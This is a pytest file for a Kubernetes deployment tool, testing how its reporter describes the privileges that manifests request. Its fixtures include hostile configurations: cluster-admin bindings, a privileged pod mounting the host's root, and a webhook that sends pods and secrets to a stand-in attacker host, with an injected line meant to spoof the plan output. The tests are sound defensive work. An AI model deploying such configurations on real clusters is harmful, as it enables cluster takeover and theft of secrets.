"""What objects ask for beyond their own affairs, told from their manifests."""

from dataclasses import replace
from typing import Any

import pytest

from stackctl.cli.report.plan import plan_lines
from stackctl.cli.report.privileges import new_privilege_lines
from stackctl.cli.report.rendering import Page
from stackctl.cli.terminal.terminal import Paint
from stackctl.model.catalogue.component import Component, ComponentSpec, Feature, Manifests
from stackctl.model.objects.refs import Manifest, ref_of
from stackctl.model.ownership.stack_id import StackId
from stackctl.model.plan.plan import Action, Change, Plan
from stackctl.model.privileges.kind_privileges import Sort
from stackctl.model.privileges.privileges import (
    Privilege,
    asked_by_features,
    newly_asked,
    privileges,
)
from stackctl.model.privileges.rights import rights

RBAC = "rbac.authorization.k8s.io/v1"
ROLES = "rbac.authorization.k8s.io"


def made(kind: str, name: str = "x", namespace: str = "", api: str = "v1", **more: Any) -> Manifest:
    place = {"namespace": namespace} if namespace else {}
    return {"apiVersion": api, "kind": kind, "metadata": {"name": name} | place} | more


def rule(groups: str, resources: str, verbs: str, **more: Any) -> dict[str, Any]:
    parts = {"apiGroups": groups, "resources": resources, "verbs": verbs}
    return {key: [each.strip() for each in text.split(",")] for key, text in parts.items()} | more


def role(*rules: dict[str, Any], name: str = "x", labels: dict[str, str] | None = None) -> Manifest:
    found = made("ClusterRole", name, api=RBAC, rules=list(rules))
    return found | {"metadata": {"name": name, "labels": labels or {}}}


def bound(to: str, *subjects: dict[str, str], kind: str = "ClusterRole", **where: str) -> Manifest:
    which = "RoleBinding" if where else "ClusterRoleBinding"
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": to}
    return made(which, "b", api=RBAC, roleRef=reference, subjects=list(subjects), **where)


OURS = {"kind": "ServiceAccount", "name": "x", "namespace": "x"}


def pods(kind: str = "DaemonSet", **spec: Any) -> Manifest:
    return made(kind, "x", "x", "apps/v1", spec={"template": {"spec": spec}})


def asked(*objects: Manifest) -> list[tuple[str, str]]:
    return [(each.what, each.whom) for each in privileges(("x", each) for each in objects)]


@pytest.mark.parametrize(
    ("given", "what"),
    [
        (rule("*", "*", "*"), ["everything, as cluster-admin"]),
        (rule(",apps", "secrets", "get"), ["read Secrets"]),
        (rule("", "secrets", "*"), ["read Secrets", "write Secrets"]),
        (rule("", "secrets", "get", resourceNames=["mine"]), []),
        (
            rule("", "*", "list"),
            ["read Secrets", "reach into kubelets"],
        ),
        (rule("", "serviceaccounts", "impersonate"), ["act as others"]),
        (rule("", "serviceaccounts/token", "create"), ["issue tokens for ServiceAccounts"]),
        (
            rule(ROLES, "clusterroles", "bind"),
            ["give more rights than it has"],
        ),
        (rule(ROLES, "rolebindings", "create"), ["write roles and bindings"]),
        (rule("certificates.k8s.io", "signers", "approve"), ["sign certificates"]),
        (
            rule("certificates.k8s.io", "signers", "approve", resourceNames=["mine.io/*"]),
            [],
        ),
        (
            rule("certificates.k8s.io", "signers", "sign", resourceNames=["kubernetes.io/x"]),
            ["sign certificates"],
        ),
        (rule("", "nodes/*", "get"), ["reach into kubelets"]),
        (rule("", "*/exec", "create"), ["run commands in Pods"]),
        (rule("apps,batch", "jobs,deployments", "create"), ["create Pods"]),
        (rule("apps", "deployments", "get,list,watch"), []),
        (
            rule("admissionregistration.k8s.io", "mutatingwebhookconfigurations", "patch"),
            ["change admission webhooks"],
        ),
        (
            rule("admissionregistration.k8s.io", "validatingadmissionpolicybindings", "delete"),
            ["change admission policies"],
        ),
        (
            rule("apiextensions.k8s.io", "customresourcedefinitions", "get,patch"),
            ["change definitions of resources"],
        ),
        (rule("apiextensions.k8s.io", "customresourcedefinitions", "get,create"), []),
        (rule("", "namespaces", "patch"), ["change namespaces"]),
        (rule("", "namespaces", "get,list,create"), []),
        (rule("", "endpoints", "update"), ["lead others' traffic elsewhere"]),
        (
            rule("discovery.k8s.io", "endpointslices", "create"),
            ["lead others' traffic elsewhere"],
        ),
        (rule("sparkoperator.k8s.io", "*", "*"), []),
        ({"nonResourceURLs": ["*"], "verbs": ["get"]}, ["every path of the API server"]),
    ],
)
def test_a_rule_in_words(given, what):
    """What reaches beyond a program's own kinds, and nothing else."""
    assert list(rights(role(given))) == what


def test_rights_belong_to_who_is_bound():
    """To roles of the stack and of the cluster, in the cluster and in others' namespaces."""
    secrets = role(rule("", "secrets", "get"))
    everybody = {"kind": "Group", "name": "system:authenticated"}
    assert asked(secrets, bound("x", OURS)) == [("read Secrets", "ServiceAccount/x/x")]
    assert asked(bound("cluster-admin", OURS, everybody)) == [
        ("everything, as cluster-admin", "ServiceAccount/x/x"),
        ("everything, as cluster-admin", "Group/system:authenticated"),
    ]
    assert asked(bound("edit", OURS)) == [("what the role edit allows", "ServiceAccount/x/x")]
    assert asked(bound("system:auth-delegator", OURS)) == []
    there = bound("x", OURS, namespace="kube-system")
    found = [("read Secrets in namespace kube-system", "ServiceAccount/x/x")]
    assert asked(secrets, there) == found
    own = made("Namespace", "kube-system")
    assert asked(own, secrets, there) == []


@pytest.mark.parametrize("kind", ["Group", "User"])
def test_what_everybody_may_do_is_told_however_little_it_is(kind):
    """Who is not known to the cluster, or any of its programs: also what is usual for one."""
    little = role(rule("", "pods", "get"))
    named = {"Group": "system:unauthenticated", "User": "system:anonymous"}[kind]
    everybody = {"kind": kind, "name": named}
    assert asked(little, bound("x", OURS)) == []
    assert asked(little, bound("x", everybody, OURS)) == [
        ("what the role x allows", f"{kind}/{named}")
    ]
    assert asked(bound("view", everybody)) == [("what the role view allows", f"{kind}/{named}")]
    assert asked(bound("view", {"kind": kind, "name": "jane"})) == []


def test_a_role_made_of_others_is_what_those_come_to():
    """They may be somebody else's, and come later."""
    joined = role(name="x") | {
        "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"a": "b"}}]}
    }
    assert asked(joined, bound("x", OURS)) == [("what roles with a=b allow", "ServiceAccount/x/x")]


EVERYTHING_THERE = ["everything, as cluster-admin in namespace team-a"]
MINE, TENANTS = StackId("s"), StackId("s", "team-a")


def applied(manifest: Manifest, stack: StackId) -> Manifest:
    """Write an object as the server shows one that the stack has applied."""
    marks = {"app.kubernetes.io/managed-by": "stackctl", "stackctl.dev/stack": stack.label}
    entry = {"manager": stack.manager, "operation": "Apply", "fieldsV1": {}}
    more = {"labels": marks, "uid": "u1", "managedFields": [entry]}
    return manifest | {"metadata": manifest["metadata"] | more}


def granted(space: Change, stack: StackId = MINE) -> list[str]:
    """Name what a plan gives that binds cluster-admin in the namespace of a change."""
    binding = change(Action.CREATE, bound("cluster-admin", OURS, namespace="team-a"))
    return [each.what for each in newly_asked(Plan(stack, "p", (space, binding)))]


def test_a_namespace_that_was_there_before_is_others_too():
    """Only one that the plan makes, or that the stack is recorded as having made, is its own."""
    space = made("Namespace", "team-a")
    there = applied(space, MINE)
    assert granted(change(Action.CREATE, space)) == []
    assert granted(replace(change(Action.UNCHANGED, space, there), created=True)) == []
    for action in (Action.ADOPT, Action.UPDATE, Action.UNCHANGED):
        assert granted(change(action, space, there)) == EVERYTHING_THERE
    assert granted(replace(change(Action.UNCHANGED, space, space), left=True)) == EVERYTHING_THERE
    namesake = made("Namespace", "team-a", api="example.com/v1")
    assert granted(change(Action.CREATE, namesake)) == EVERYTHING_THERE


def test_a_tenants_namespace_is_the_tenants_whatever_the_record_says():
    """An administrator's rollback of a tenant's record is told what it gives in there."""
    space = made("Namespace", "team-a")
    recorded = replace(change(Action.UNCHANGED, space, applied(space, TENANTS)), created=True)
    assert granted(recorded, TENANTS) == EVERYTHING_THERE
    before = change(Action.UPDATE, *(bound(r, OURS, namespace="t") for r in ("cluster-admin", "x")))
    (found,) = newly_asked(Plan(TENANTS, "p", (recorded, before)))
    assert found.what == "everything, as cluster-admin in namespace t"


def test_a_role_in_others_namespaces_is_told_before_it_is_bound():
    """Whoever is bound to a Role that grows has what it comes to; in an own one, that is ours."""
    there = role(rule("", "secrets", "get")) | made("Role", "x", "kube-system", RBAC)
    found = [("read Secrets in namespace kube-system", "whoever it is bound to")]
    assert asked(there) == found
    assert asked(made("Namespace", "kube-system"), there) == []


def test_whom_pods_and_tokens_act_as():
    """As accounts that the stack has not made, and whose rights nobody here can tell."""
    account = made("ServiceAccount", "a", "x")
    acting = pods(containers=[], serviceAccountName="a")
    token = made("Secret", "t", "x", type="kubernetes.io/service-account-token")
    token["metadata"]["annotations"] = {"kubernetes.io/service-account.name": "a"}
    assert asked(acting) == [("run Pods as ServiceAccount/x/a", "")]
    assert asked(pods(containers=[], serviceAccount="a")) == asked(acting)
    assert asked(token) == [("hold a token of ServiceAccount/x/a", "")]
    assert asked(made("ServiceAccount", "a", "y"), acting, token) == [*asked(acting), *asked(token)]
    assert asked(account, acting, token) == []
    assert asked(pods(containers=[]), pods(containers=[], serviceAccountName="default")) == []
    assert asked(made("Secret", "t", "x", type="Opaque")) == []


def test_an_account_that_is_taken_over_is_others_too():
    """It keeps what it was given; one that the stack has made has nothing else."""
    account = made("ServiceAccount", "a", "x")
    acting = change(Action.CREATE, pods(containers=[], serviceAccountName="a"))

    def new(account: Change, stack: StackId = MINE) -> list[str]:
        return [each.what for each in newly_asked(Plan(stack, "p", (account, acting)))]

    mine, theirs = (applied(account, each) for each in (MINE, TENANTS))
    assert new(change(Action.CREATE, account)) == []
    assert new(replace(change(Action.UNCHANGED, account, mine), created=True)) == []
    assert new(change(Action.UNCHANGED, account, theirs), TENANTS) == []
    assert new(change(Action.UNCHANGED, account, mine)) == ["run Pods as ServiceAccount/x/a"]
    for stack in (MINE, TENANTS):
        taken = change(Action.ADOPT, account, account)
        assert new(taken, stack) == ["run Pods as ServiceAccount/x/a"]


def test_accounts_of_others_are_named_in_the_plan():
    """What is done as them is told without a subject of its own."""
    acting = pods(containers=[], serviceAccountName="a")
    lines = new_privilege_lines(
        Plan(StackId("s"), "p", (change(Action.CREATE, acting),)), Paint(on=False)
    )
    assert lines[2:] == ["    rights: run Pods as ServiceAccount/x/a"]


@pytest.mark.parametrize(
    "namespace", ["kube-system", "kube-public", "kube-flannel", "default", "stackctl-system"]
)
def test_what_is_in_kubernetes_own_namespaces_is_named(namespace):
    """Whatever it is; of roles and bindings, what they come to is told."""
    config = made("ConfigMap", "coredns", namespace)
    assert asked(config) == [(f"in namespace {namespace}", "")]
    harmless = role(rule("coordination.k8s.io", "leases", "update"))
    assert asked(harmless | made("Role", "x", namespace, RBAC)) == []
    assert asked(made("ServiceAccount", "x", namespace), made("ConfigMap", "x", "mine")) == []


def test_to_take_over_what_is_in_kube_system_is_new():
    """That it is there is not; an object that we have written to already is not named again."""
    config = made("ConfigMap", "coredns", "kube-system")

    def new(action: Action, **more: Any) -> list[str]:
        plan = Plan(StackId("s"), "p", (replace(change(action, config, config), **more),))
        return [each.what for each in newly_asked(plan)]

    assert new(Action.ADOPT) == ["in namespace kube-system"]
    assert new(Action.UPDATE) == new(Action.UNCHANGED, left=True) == []


def test_what_was_deleted_and_comes_back_as_it_was_asks_for_nothing_new():
    """As the record of administrators says; a tenant could write anything into the tenant's."""
    pod = made("Pod", "x", "own") | {"spec": {"hostNetwork": True, "containers": []}}
    tame = made("Pod", "x", "own") | {"spec": {"containers": []}}
    back = change(Action.CREATE, pod)

    def new(stack: StackId, former: Manifest | None) -> list[str]:
        plan = Plan(stack, "p", (replace(back, former=former),))
        return [each.what for each in newly_asked(plan)]

    assert new(StackId("s"), pod) == []
    said = ["the host's network"]
    assert new(StackId("s"), None) == new(StackId("s"), tame) == new(TENANTS, pod) == said


def test_a_role_that_nobody_is_bound_to_is_told_too():
    """Somebody else may bind it, and a label gives it to many, who else it may be bound to."""
    key = "rbac.authorization.k8s.io/aggregate-to-edit"
    given = rule("", "pods/exec", "create")
    assert asked(role(given)) == [("run commands in Pods", "whoever it is bound to")]
    (found,) = asked(role(given, labels={key: "true"}))
    assert found == ("run commands in Pods", "everybody with the cluster's role edit")
    there = bound("x", OURS, namespace="own")
    also = asked(made("Namespace", "own"), there, role(given, labels={key: "true"}))
    assert also == [found]


def test_what_pods_ask_of_their_nodes():
    """Privileges, the host's namespaces and files, capabilities, root; no more than that."""
    mounts = [
        {"name": "all", "mountPath": "/a"},
        {"name": "sys", "mountPath": "/s", "readOnly": True},
    ]
    context = {"capabilities": {"add": ["NET_BIND_SERVICE", "SYS_ADMIN"]}, "runAsUser": 0}
    spec: dict[str, Any] = {
        "hostNetwork": True,
        "hostPID": True,
        "containers": [{"name": "a", "volumeMounts": mounts, "securityContext": context}],
        "initContainers": [{"name": "i", "securityContext": {"privileged": True}}],
        "volumes": [
            {"name": "all", "hostPath": {"path": "/"}},
            {"name": "sys", "hostPath": {"path": "/sys"}},
            {"name": "tmp", "emptyDir": {}},
        ],
    }
    assert [what for what, _ in asked(pods(**spec))] == [
        "privileged",
        "the host's network",
        "the host's processes",
        "host path / (writable)",
        "host path /sys",
        "capability SYS_ADMIN",
        "as root",
    ]
    assert asked(pods(containers=[{"name": "a", "securityContext": {"runAsUser": 1}}])) == []


def confined(**context: Any) -> dict[str, Any]:
    return {"containers": [{"name": "a", "securityContext": context}]}


@pytest.mark.parametrize(
    ("spec", "what"),
    [
        ({"containers": [{"ports": [{"hostPort": 80}, {"containerPort": 1}]}]}, ["host port 80"]),
        (
            {"hostNetwork": True, "containers": [{"ports": [{"hostPort": 80}]}]},
            ["the host's network"],
        ),
        (confined(procMount="Unmasked"), ["all of /proc"]),
        (confined(procMount="Default"), []),
        (confined(seccompProfile={"type": "Unconfined"}), ["without seccomp"]),
        (confined(seccompProfile={"type": "RuntimeDefault"}), []),
        (confined(appArmorProfile={"type": "Unconfined"}), ["without AppArmor"]),
        (confined(windowsOptions={"hostProcess": True}), ["as a process of the host"]),
        (confined(seLinuxOptions={"type": "spc_t"}), ["SELinux type spc_t"]),
        (confined(seLinuxOptions={"type": "container_t", "level": "s0:c1"}), []),
        (
            {
                "containers": [],
                "securityContext": {
                    "sysctls": [{"name": "kernel.msgmax"}, {"name": "net.ipv4.tcp_syncookies"}]
                },
            },
            ["kernel parameter kernel.msgmax"],
        ),
        (
            {"containers": [], "securityContext": {"seccompProfile": {"type": "Unconfined"}}},
            ["without seccomp"],
        ),
    ],
)
def test_what_confinement_pods_do_without(spec, what):
    """In the Pod's own context as in each container's."""
    assert [each for each, _ in asked(pods(**spec))] == what


def test_armour_is_taken_off_by_annotations_too():
    """As manifests did before there was a field for it."""
    key = "container.apparmor.security.beta.kubernetes.io/a"
    bare = pods(containers=[])
    bare["spec"]["template"]["metadata"] = {"annotations": {key: "unconfined"}}
    assert asked(bare) == [("without AppArmor", "")]
    bare["spec"]["template"]["metadata"] = {"annotations": {key: "runtime/default"}}
    assert asked(bare) == []


ADMIN = [{"name": "a", "adminAccess": True}]
CLAIM = "resource.k8s.io/v1"
LETS = {"resource.kubernetes.io/admin-access": "true"}
DEFAULT = {"storageclass.kubernetes.io/is-default-class": "true"}


@pytest.mark.parametrize(
    ("found", "what"),
    [
        (made("PersistentVolume", spec={"hostPath": {"path": "/"}}), ["host path / (writable)"]),
        (made("PersistentVolume", spec={"local": {"path": "/d"}}), ["host path /d (writable)"]),
        (made("PersistentVolume", spec={"nfs": {"path": "/d"}}), []),
        (
            made("CertificateSigningRequest", spec={"signerName": "kubernetes.io/kubelet-serving"}),
            ["ask for a certificate of kubernetes.io/kubelet-serving"],
        ),
        (
            made("PriorityClass", globalDefault=True, value=1),
            ["the priority of all Pods that name none"],
        ),
        (made("PriorityClass", value=1), []),
        (
            made("StorageClass") | {"metadata": {"name": "x", "annotations": DEFAULT}},
            ["the StorageClass of all that name none"],
        ),
        (made("StorageClass"), []),
        (
            made("ResourceClaim", api=CLAIM, spec={"devices": {"requests": ADMIN}}),
            ["devices that others use (adminAccess)"],
        ),
        (
            made(
                "ResourceClaimTemplate",
                api=CLAIM,
                spec={"spec": {"devices": {"requests": [{"exactly": ADMIN[0]}]}}},
            ),
            ["devices that others use (adminAccess)"],
        ),
        (made("ResourceClaim", spec={"devices": {"requests": [{"name": "a"}]}}), []),
        (
            made("Namespace") | {"metadata": {"name": "x", "labels": LETS}},
            ["lets claims on devices in use in"],
        ),
    ],
)
def test_what_reaches_nodes_and_everybody_without_pods(found, what):
    """Volumes, devices, certificates, and classes that others get without naming them."""
    assert [each for each, _ in asked(found)] == what


def webhook(kind: str = "Mutating", **more: Any) -> Manifest:
    return made(f"{kind}WebhookConfiguration", webhooks=[{"name": "a"} | more])


PODS = {"apiGroups": [""], "resources": ["pods", "secrets"], "operations": ["CREATE"]}
OWN = {"apiGroups": ["kubeflow.org"], "resources": ["tfjobs"], "operations": ["CREATE"]}


@pytest.mark.parametrize(
    ("found", "what"),
    [
        (webhook(rules=[OWN]), []),
        (
            webhook(rules=[PODS]),
            ["changes all pods, secrets, and none gets in without it"],
        ),
        (
            webhook("Validating", rules=[PODS], failurePolicy="Ignore"),
            ["checks all pods, secrets"],
        ),
        (
            webhook(rules=[PODS], namespaceSelector={"matchLabels": {"a": "b"}}),
            ["changes some of all pods, secrets"],
        ),
        (
            webhook(rules=[OWN], clientConfig={"url": "https://evil.example"}),
            ["sends what it sees to https://evil.example"],
        ),
        (
            webhook(rules=[PODS], clientConfig={"url": "https://evil.example"}),
            ["sends pods, secrets to https://evil.example"],
        ),
        (made("Service", spec={"type": "LoadBalancer"}), ["reachable from outside (LoadBalancer)"]),
        (made("Service", spec={"type": "ExternalName", "externalName": "e"}), ["leads to e"]),
        (made("Service", spec={"type": "ClusterIP"}), []),
        (made("APIService", "v1.x", spec={"service": {}, "group": "x"}), []),
        (made("APIService", "v1.x", spec={"service": {"name": "a"}}), ["answers for the API v1.x"]),
    ],
)
def test_other_peoples_objects_and_the_network(found, what):
    """What is sent elsewhere, changed on its way, or reachable from outside."""
    assert [each for each, _ in asked(found)] == what


def change(action: Action, desired: Manifest, live: Manifest | None = None) -> Change:
    return Change(ref_of(desired), "x", action, desired, live)


def test_new_is_what_is_not_given_already():
    """By what is there, and what it becomes; a role that grows is new for whom it is bound to."""
    binding = change(Action.UNCHANGED, bound("x", OURS), made("ClusterRoleBinding", "b"))
    reads, more = role(rule("", "secrets", "get")), role(rule("", "secrets", "get,update"))

    def new(*changes: Change) -> list[str]:
        return [each.what for each in newly_asked(Plan(StackId("s"), "p", changes))]

    assert new(binding, change(Action.UPDATE, more, reads)) == ["write Secrets"]
    assert new(binding, change(Action.UPDATE, reads, more)) == []
    assert new(binding, change(Action.UNCHANGED, more, made("ClusterRole"))) == []
    assert new(binding, change(Action.CREATE, reads)) == ["read Secrets"]
    rooted = pods(hostPID=True, containers=[])
    assert new(change(Action.RECREATE, rooted, pods(containers=[]))) == ["the host's processes"]
    gone = Change(ref_of(rooted), "x", Action.PRUNE, live=rooted)
    assert new(gone) == []


def test_features_say_what_more_they_ask_for():
    """What comes with the component is not repeated for each of them."""
    features = {"more": Feature("more"), "usual": Feature("usual", default=True)}
    spec = ComponentSpec("1", "x", features=features)
    component = Component("x", "x", spec, "x")
    manifests = Manifests(
        base=(pods(containers=[], hostPID=True),),
        features={"more": (pods("Deployment", containers=[], hostIPC=True),), "usual": ()},
        patches={},
        each={},
        files={},
    )
    found = asked_by_features(component, manifests, {})
    assert {name: [each.what for each in all_] for name, all_ in found.items()} == {
        "": ["the host's processes"],
        "more": ["the host's memory"],
    }


def hostile() -> Plan:
    """A component that takes a cluster over."""
    root = {"name": "root", "hostPath": {"path": "/"}}
    mounted = {"name": "a", "securityContext": {"privileged": True}, "volumeMounts": [root]}
    objects = (
        bound("cluster-admin", OURS),
        pods(containers=[mounted], volumes=[root]),
        webhook(rules=[PODS], clientConfig={"url": "https://evil.example/\nPlan: nothing"}),
        made("ServiceAccount", "x", "x"),
    )
    return Plan(StackId("s"), "p", tuple(change(Action.CREATE, each) for each in objects))


def test_a_hostile_component_is_seen_in_its_plan(golden):
    """All of it in a few lines, right before the question; none that looks like ours."""
    lines = plan_lines(hostile(), Page(Paint(on=False), width=80))
    golden("plan-hostile.txt", lines)
    wide = new_privilege_lines(hostile(), Paint(on=False))
    assert not [line for line in wide if line.startswith("Plan:")]


@pytest.mark.parametrize("odd", [None, "text", 1, ["text", 1, None], {"a": "b"}, [{"a": ["b"]}]])
def test_what_is_not_shaped_as_it_should_be_is_left_to_the_server(odd):
    """A recorded bundle may hold anything; that is no reason to fall over before the question."""
    kinds = ("ClusterRole", "ClusterRoleBinding", "Service", "APIService", "Namespace", "Ingress")
    more = ("PersistentVolume", "ResourceClaim", "CertificateSigningRequest", "PriorityClass")
    hooks = ("MutatingWebhookConfiguration", "ValidatingAdmissionPolicy")
    fields = ("spec", "rules", "webhooks", "subjects", "roleRef")
    for kind in (*kinds, *more, *hooks, "CustomResourceDefinition"):
        asked(made(kind, **dict.fromkeys(fields, odd)))
    for key in ("containers", "volumes", "securityContext", "serviceAccountName"):
        asked(pods(**{key: odd}))
    asked(pods(containers=[{"ports": odd, "securityContext": {"seccompProfile": odd}}]))
    asked(made("ResourceClaim", spec={"devices": {"requests": odd}}))
    asked(made("DaemonSet", api="apps/v1", spec={"template": {"metadata": odd, "spec": {}}}))
    asked(role({"apiGroups": odd, "resources": odd, "verbs": odd, "resourceNames": odd}))
    asked(webhook(rules=odd, clientConfig=odd))


def test_many_objects_are_counted():
    """What reaches farthest is named; the rest is in the component's description."""
    volumes = [{"name": f"v{n}", "hostPath": {"path": f"/a/b/c{n}"}} for n in range(9)]
    changes = [
        change(
            Action.CREATE, made("Pod", f"p{n}", "x", spec={"containers": [], "volumes": volumes})
        )
        for n in range(9)
    ]
    lines = new_privilege_lines(Plan(StackId("s"), "p", tuple(changes)), Paint(on=False))
    assert "Pod/p0 host paths /a/b/c0, /a/b/c1, /a/b/c2 and 6 more" in lines[2]
    assert lines[2].endswith("; and 3 more objects")


def test_sorted_by_how_far_it_reaches():
    """Rights over the cluster come first."""
    found = [each.sort for each in newly_asked(hostile())]
    assert found == sorted(found, key=list(Sort).index)
    assert all(isinstance(each, Privilege) for each in newly_asked(hostile()))
